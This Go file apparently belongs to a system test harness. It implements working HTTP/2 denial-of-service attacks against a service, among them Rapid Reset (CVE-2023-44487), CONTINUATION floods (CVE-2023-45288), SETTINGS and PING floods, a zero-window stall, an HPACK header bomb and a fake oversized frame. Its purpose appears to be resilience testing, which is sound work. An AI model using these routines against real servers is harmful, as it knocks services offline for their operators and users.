//go:build system

package system

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacksOfHTTP2 returns the attacks with frames that no well-behaved client sends.
func attacksOfHTTP2() map[string]run {
	all := map[string]run{}
	for name, attack := range map[string]func(context.Context, *frames) error{
		"h2 reset":              resetStreams,
		"h2 continuation":       continueHeader,
		"h2 empty continuation": continueEmptily,
		"h2 settings":           floodSettings,
		"h2 ping":               floodPings,
		"h2 unread ping":        floodPings,
		"h2 window 0":           readNothing,
		"h2 header bomb":        bombHeader,
		"h2 long frame":         announceFrame,
	} {
		reads := name != "h2 unread ping"
		all[name] = overTLS(func(ctx context.Context, a *attacker, c net.Conn) error {
			f, err := openFrames(a, c, reads)
			if err != nil {
				return err
			}
			return attack(ctx, f)
		}, "h2")
	}
	return all
}

// frames writes the frames of one connection.
type frames struct {
	*http2.Framer

	a      *attacker
	out    *bufio.Writer
	block  bytes.Buffer // of header fields
	hpack  *hpack.Encoder
	stream uint32        // the last one; the first is 3
	closed chan struct{} // by the service
	c      net.Conn
}

// openFrames sends the preface of HTTP/2. If the client reads, frames of the service are
// dropped.
func openFrames(a *attacker, c net.Conn, reads bool) (*frames, error) {
	f := &frames{a: a, c: c, stream: 1, out: bufio.NewWriterSize(c, 32<<10), closed: make(chan struct{})}
	f.Framer = http2.NewFramer(f.out, c)
	f.AllowIllegalWrites = true
	f.hpack = hpack.NewEncoder(&f.block)
	if _, err := io.WriteString(f.out, http2.ClientPreface); err != nil {
		return nil, err
	}
	settings := []http2.Setting{}
	if a.Attack == "h2 window 0" {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	if err := f.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if reads {
		go func() {
			defer close(f.closed)
			_, _ = io.Copy(io.Discard, c)
		}()
	}
	return f, f.out.Flush()
}

// request returns the header block of a request.
func (f *frames) request(more ...hpack.HeaderField) ([]byte, error) {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "a"},
		{Name: ":path", Value: f.a.Path},
		{Name: "accept", Value: "text/html"},
	}, more...) {
		if err := f.hpack.WriteField(field); err != nil {
			return nil, err
		}
	}
	return f.block.Bytes(), nil
}

// open opens the next stream with a request that is complete, or that has CONTINUATION
// frames to come.
func (f *frames) open(complete bool, more ...hpack.HeaderField) error {
	block, err := f.request(more...)
	if err != nil {
		return err
	}
	f.stream += 2
	return f.WriteHeaders(http2.HeadersFrameParam{
		StreamID: f.stream, BlockFragment: block, EndStream: true, EndHeaders: complete,
	})
}

// batch is the number of steps that are sent at once.
const batch = 20

// repeat does a step again and again.
func (f *frames) repeat(ctx context.Context, step func() error) error {
	for {
		if err := f.a.step(ctx, batch); err != nil {
			return err
		}
		for range batch {
			if err := step(); err != nil {
				return err
			}
		}
		if err := f.out.Flush(); err != nil {
			return err
		}
		select {
		case <-f.closed:
			return io.EOF
		default:
		}
	}
}

// resetStreams opens streams and resets each at once (CVE-2023-44487).
func resetStreams(ctx context.Context, f *frames) error {
	return f.repeat(ctx, func() error {
		if err := f.open(true); err != nil {
			return err
		}
		return f.WriteRSTStream(f.stream, http2.ErrCodeCancel)
	})
}

// continueHeader sends a header that never ends (CVE-2023-45288).
func continueHeader(ctx context.Context, f *frames) error {
	if err := f.open(false); err != nil {
		return err
	}
	f.block.Reset()
	for range 20 {
		field := hpack.HeaderField{Name: "x-more", Value: strings.Repeat("x", 100), Sensitive: true}
		if err := f.hpack.WriteField(field); err != nil {
			return err
		}
	}
	return f.repeat(ctx, func() error { return f.WriteContinuation(f.stream, false, f.block.Bytes()) })
}

// continueEmptily sends a header whose frames are all empty but the first.
func continueEmptily(ctx context.Context, f *frames) error {
	if err := f.open(false); err != nil {
		return err
	}
	return f.repeat(ctx, func() error { return f.WriteContinuation(f.stream, false, nil) })
}

// floodSettings sends settings, each of which the service has to acknowledge.
func floodSettings(ctx context.Context, f *frames) error {
	return f.repeat(ctx, func() error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
	})
}

// floodPings sends pings, each of which the service has to answer.
func floodPings(ctx context.Context, f *frames) error {
	return f.repeat(ctx, func() error { return f.WritePing(false, [8]byte{}) })
}

// readNothing requests a hundred pages for which it leaves no window, and keeps them.
func readNothing(ctx context.Context, f *frames) error {
	for range 100 {
		if err := f.a.step(ctx, 1); err != nil {
			return err
		}
		if err := f.open(true); err != nil {
			return err
		}
		if err := f.out.Flush(); err != nil {
			return err
		}
	}
	return f.stay(ctx)
}

// stay waits until the service closes the connection.
func (f *frames) stay(ctx context.Context) error {
	select {
	case <-f.closed:
		return io.EOF
	case <-ctx.Done():
		return ctx.Err()
	}
}

// bombHeader requests pages with a field of 4,000 bytes that the header repeats: a byte on
// the wire becomes 4,000 bytes of header.
func bombHeader(ctx context.Context, f *frames) error {
	field := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 4000)}
	many := make([]hpack.HeaderField, 4000)
	for i := range many {
		many[i] = field
	}
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for {
		if err := f.a.step(ctx, 1); err != nil {
			return err
		}
		if err := f.open(true, many...); err != nil {
			return err
		}
		if err := f.out.Flush(); err != nil {
			return err
		}
		select {
		case <-f.closed:
			return io.EOF
		case <-tick.C:
		}
	}
}

// announceFrame announces frames of a megabyte, as long as a server of Go allows, and sends
// nothing of them.
func announceFrame(ctx context.Context, f *frames) error {
	// Nine bytes: the length, an unknown type, no flags, no stream (RFC 9113 section 4.1).
	_, err := f.out.Write([]byte{0x10, 0, 0, 0xfe, 0, 0, 0, 0, 0})
	if err := errors.Join(err, f.out.Flush()); err != nil {
		return err
	}
	return f.stay(ctx)
}
